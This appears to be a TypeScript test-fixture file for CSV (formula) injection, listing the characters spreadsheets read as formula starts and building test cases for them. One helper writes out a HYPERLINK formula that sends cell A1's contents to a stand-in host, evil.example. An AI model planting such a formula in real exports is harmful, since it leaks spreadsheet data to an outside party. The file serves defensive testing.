/** Every first character a spreadsheet reads as the start of a formula (OWASP, CSV injection). */
export const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r'] as const;

/** A formula cell whose text goes on past a line break, as a hostile author name can. */
export const multiLineFormula = (lead: string): string =>
  `${lead}HYPERLINK("https://evil.example/?d="&A1,"Click")\nsecond line`;

/** `[label, lead]` pairs for `it.each`, labels readable in the test names. */
export const formulaCases = FORMULA_LEADS.map((lead) => [JSON.stringify(lead), lead] as const);
